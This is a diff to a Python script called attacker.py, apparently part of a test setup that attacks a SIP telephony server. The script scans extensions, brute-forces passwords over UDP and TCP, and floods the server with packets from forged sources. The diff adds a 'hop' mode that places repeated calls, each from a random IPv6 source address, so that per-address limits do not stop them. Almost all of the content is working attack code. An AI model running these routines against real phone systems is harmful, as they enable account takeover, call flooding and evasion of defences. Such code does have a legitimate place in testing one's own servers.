@@ -2,12 +2,15 @@
 
 attacker.py scan SERVER FIRST LAST · guess, guess-tcp SERVER USER TRIES SECONDS ·
 login SERVER USER PASSWORD TRIES · flood SERVER NUMBER COUNT SECONDS [FORGED ADDRESS:PORT] ·
-forge SERVER USER FORGED ADDRESS:PORT TRIES · start SERVER FIRST_SOURCE SOURCES PHONES
+forge SERVER USER FORGED ADDRESS:PORT TRIES · start SERVER FIRST_SOURCE SOURCES PHONES ·
+hop SERVER NUMBER COUNT SECONDS PREFIX. SERVER is IPv4 or IPv6 where no address is forged.
 Beside it lies mairie/host/looks/sip.py, which words the messages.
 """
 
+import contextlib
 import ipaddress
 import json
+import random
 import select
 import socket
 import struct
@@ -20,12 +23,17 @@ import sip  # type: ignore[import-not-found]
 
 PORT = 5060
 PATIENCE_S = 0.2
+IPV6_FREEBIND = 78
+"""Of linux/in6.h: any address may be a source, the machine's own or not."""
 
 
 def opened(server: str, source: str = "") -> socket.socket:
     """Return a socket that speaks to the server."""
-    asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    asking.bind((source, 0))
+    asking = socket.socket(sip.family_of(server), socket.SOCK_DGRAM)
+    if source:
+        if ":" in source:
+            asking.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
+        asking.bind((source, 0))
     asking.connect((server, PORT))
     asking.settimeout(PATIENCE_S)
     return asking
@@ -35,8 +43,15 @@ def answers(asking: socket.socket, seconds: float) -> list[str]:
     """Return what comes within some seconds of silence."""
     found = []
     while select.select([asking], [], [], seconds)[0]:
-        found.append(asking.recv(65535).decode(errors="replace"))
+        with contextlib.suppress(ConnectionRefusedError):
+            found.append(asking.recv(65535).decode(errors="replace"))
     return found
+
+
+def send(asking: socket.socket, content: bytes) -> None:
+    """Send, whatever was answered before: "nobody is there" shows at the next packet."""
+    with contextlib.suppress(ConnectionRefusedError):
+        asking.send(content)
 
 
 def status(answer: str) -> str:
@@ -49,7 +64,7 @@ def scan(server: str, first: str, last: str) -> dict[str, Any]:
     found: dict[str, str] = {}
     with opened(server) as asking:
         for number in range(int(first), int(last) + 1):
-            asking.send(sip._register(asking, str(number), f"scan{number}", 1).encode())
+            send(asking, sip._register(asking, str(number), f"scan{number}", 1).encode())
             time.sleep(0.005)
         for answer in answers(asking, 1):
             call = next(x for x in answer.splitlines() if x.lower().startswith("call-id:"))
@@ -74,7 +89,11 @@ def guess(server: str, user: str, tries: str, seconds: str) -> dict[str, Any]:
 def guess_tcp(server: str, user: str, tries: str, seconds: str) -> dict[str, Any]:
     """Try passwords over one connection."""
     end, told, sent = time.monotonic() + float(seconds), Counter[str](), 0
-    with socket.create_connection((server, PORT), 3) as asking:
+    try:
+        link = socket.create_connection((server, PORT), 3)
+    except OSError as error:
+        return {"sent": 0, "told": {type(error).__name__: 1}}
+    with link as asking:
         asking.settimeout(PATIENCE_S)
 
         def ask(text: str) -> str:
@@ -133,10 +152,26 @@ def flood(server: str, number: str, count: str, seconds: str, forged: str = "") 
             if raw is not None:
                 raw.sendto(datagram(source, int(port), server, text), (server, 0))
             else:
-                asking.send(text)
+                send(asking, text)
                 told.update(status(answer) for answer in answers(asking, 0))
             time.sleep(max(0.0, begun + pause * (each + 1) - time.monotonic()))
         told.update(status(answer) for answer in answers(asking, 1))
+    return {"sent": int(count), "seconds": round(time.monotonic() - begun, 1), "told": told}
+
+
+def hop(server: str, number: str, count: str, seconds: str, prefix: str) -> dict[str, Any]:
+    """Call a number again and again, each time from another address of an IPv6 prefix."""
+    network = ipaddress.ip_network(prefix)
+    pause, begun, told = float(seconds) / int(count), time.monotonic(), Counter[str]()
+    for each in range(int(count)):
+        source = network[random.getrandbits(128 - network.prefixlen)]
+        with opened(server, f"{source}") as asking:
+            text = sip._request(
+                asking, "INVITE", called=number, user="nobody", call=f"hop{each}", number=1
+            )
+            send(asking, text.encode())
+            told.update(status(answer) for answer in answers(asking, 0))
+        time.sleep(max(0.0, begun + pause * (each + 1) - time.monotonic()))
     return {"sent": int(count), "seconds": round(time.monotonic() - begun, 1), "told": told}
 
 
@@ -189,6 +224,7 @@ if __name__ == "__main__":
         "guess": guess,
         "login": login,
         "flood": flood,
+        "hop": hop,
         "forge": forge,
         "start": start,
     }
